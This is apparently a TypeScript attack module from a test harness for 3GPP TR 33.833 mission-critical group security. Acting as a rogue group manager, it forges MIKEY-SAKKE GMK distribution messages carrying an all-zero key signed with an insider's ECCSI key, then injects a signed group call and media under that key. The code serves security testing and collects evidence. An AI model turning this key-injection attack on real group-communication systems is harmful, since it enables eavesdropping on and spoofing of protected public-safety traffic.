// TR 33.833 key issue #3.1 (forged GMK distribution: injection of a key the attacker chose): the adversary is the
// group manager the victims are pointed at for one standard group (scenario `adversary.rogueGroupManager`). It
// holds a group-manager TLS certificate of the run's CA — the TLS checks pass, as for any group management server
// of the deployment — but not the group identity's ECCSI key (the KMS gives that only to the group's real manager;
// the rogue asks and is refused). It answers the victims' gmk_request with a forged MIKEY-SAKKE I_MESSAGE: an
// all-zero GMK of its choosing, SAKKE-encapsulated to the victim (public-key encryption: anyone can), claiming the
// group identity as initiator and signed with the only ECCSI key it has (the insider UE's). In the traffic phase it
// starts a call under that GMK on the group's PC5 multicast address (call-init signed as the insider, a valid
// signature) and sends media. Evidence at the victims: `gmk.signature` rejections, forged GMKs installed, media
// deciphered under them.
import { randomInt } from 'node:crypto';
import { identityFor } from '../../crypto-core/rfc6509-identity.js';
import { ueIdentityUri } from '../../procedures/direct-link/kd-identity.js';
import {
  GmkDistributor,
  type GmkRecord,
  groupIdentityUri,
  newGmkId,
} from '../../procedures/group/gmk-distribution.js';
import { prepareCallInit } from '../../procedures/group/group-call.js';
import { deliverGmk, inlineGroupCrypto, signCallInit } from '../../procedures/group/group-crypto.js';
import { GroupMediaSender } from '../../procedures/group/group-media.js';
import { encodeGroupSignalling } from '../../procedures/group/signalling.js';
import type { Pc3Message, Pc3Reply } from '../../transport/pc3/messages.js';
import type { Pc3Peer } from '../../transport/pc3/server.js';
import type { Attack, AttackIo } from './attack.js';

const PERIOD_MS = 3_600_000;
/** Forgeries per victim (one at once, then one per long poll). */
const MAX_FORGERIES_PER_MEMBER = 5;
const LONG_POLL_MS = 5000;
const CALL_AT_MS = 1000;
const MEDIA_FRAMES = 100;
const MEDIA_PERIOD_MS = 20;

export function gmkForgery(io: AttackIo): Attack {
  const e = {
    gmkRequests: 0,
    forgedIMessages: 0,
    callInits: 0,
    mediaSent: 0,
    groupKeyRefusedByKms: io.rogueGroupManager?.groupKeyRefusedByKms ? 1 : 0,
    errors: 0,
  };
  const insider = io.insider;
  const groupId = io.rogueGroupManager?.groupId;
  const keys = insider?.keys;
  const timers = new Set<NodeJS.Timeout>();
  const wait = (ms: number) =>
    new Promise<void>((r) => {
      const t = setTimeout(() => {
        timers.delete(t);
        r();
      }, ms);
      timers.add(t);
    });
  const ready = groupId !== undefined && keys !== undefined;
  const crypto = keys ? inlineGroupCrypto(keys) : undefined;
  const now = Date.now();
  // The attacker's chosen weak key: all zero.
  const record: GmkRecord | undefined = groupId
    ? {
        groupId,
        gmkId: newGmkId('standard'),
        gmk: new Uint8Array(16),
        activatedAtMs: now,
        expiresAtMs: now + PERIOD_MS,
      }
    : undefined;
  const distributor =
    groupId && keys
      ? new GmkDistributor({
          groupId,
          groupUri: groupIdentityUri(groupId),
          kmsUri: keys.kmsUri,
          periodMs: PERIOD_MS,
        })
      : undefined;
  const served = new Map<string, number>();
  const forge = async (memberUri: string): Promise<string> => {
    const job = {
      memberUri,
      identity: identityFor(memberUri, new Date()),
      ssv: record!.gmk,
      record: record!,
    };
    const bytes = await deliverGmk(distributor!, job, crypto!, Date.now());
    e.forgedIMessages++;
    return Buffer.from(bytes).toString('hex');
  };
  const callAndMedia = async () => {
    const g = insider?.config?.groups.find((x) => x.groupId === groupId);
    if (!g || !record || !crypto || !insider) {
      e.errors++;
      return;
    }
    const group = { address: g.multicastAddress, port: g.port };
    const srcL2Id = randomInt(1, 0xfffffe);
    const u = prepareCallInit(record, ueIdentityUri(insider.ueId), Date.now());
    const bytes = await signCallInit(u, crypto);
    io.send(group, {
      type: 'group_signalling',
      dstL2Id: g.l2GroupId,
      srcL2Id,
      payload: encodeGroupSignalling(process.hrtime.bigint(), bytes),
    });
    e.callInits++;
    const tx = new GroupMediaSender(u.context.gsk, u.context.gskId, srcL2Id, g.l2GroupId);
    for (let i = 0; i < MEDIA_FRAMES; i++) {
      await new Promise<void>((r) => io.later(MEDIA_PERIOD_MS, r));
      io.send(group, {
        type: 'group_media',
        dstL2Id: g.l2GroupId,
        srcL2Id,
        payload: tx.protect(new Uint8Array(200)),
      });
      e.mediaSent++;
    }
  };
  return {
    onFrame() {},
    async onPc3Request(msg: Pc3Message, peer: Pc3Peer): Promise<Pc3Reply | undefined> {
      // Other requests are for the other attacks on the rogue server (rogue-config-server).
      if (msg.type !== 'gmk_request') return undefined;
      if (!ready || msg.body.groupId !== groupId)
        return { type: 'gmk_reject', body: { cause: 'unknown_group', detail: 'no such group' } };
      e.gmkRequests++;
      const uri = ueIdentityUri(peer.nodeId);
      const n = served.get(uri) ?? 0;
      // A victim that installed the forged GMK, or one already served: hold the request (long poll), as a manager does.
      if (msg.body.haveGmkId === record!.gmkId || n > 0) await wait(LONG_POLL_MS);
      if (msg.body.haveGmkId === record!.gmkId || n >= MAX_FORGERIES_PER_MEMBER)
        return { type: 'gmk_response', body: { groupId, imessages: [] } };
      served.set(uri, n + 1);
      try {
        return { type: 'gmk_response', body: { groupId, imessages: [await forge(uri)] } };
      } catch {
        e.errors++;
        return { type: 'gmk_response', body: { groupId, imessages: [] } };
      }
    },
    start() {
      if (!ready) return;
      io.later(CALL_AT_MS, () => {
        void callAndMedia().catch(() => {
          e.errors++;
        });
      });
    },
    async stop() {
      for (const t of timers) clearTimeout(t);
      timers.clear();
    },
    evidence: () => ({ ...e }),
  };
}
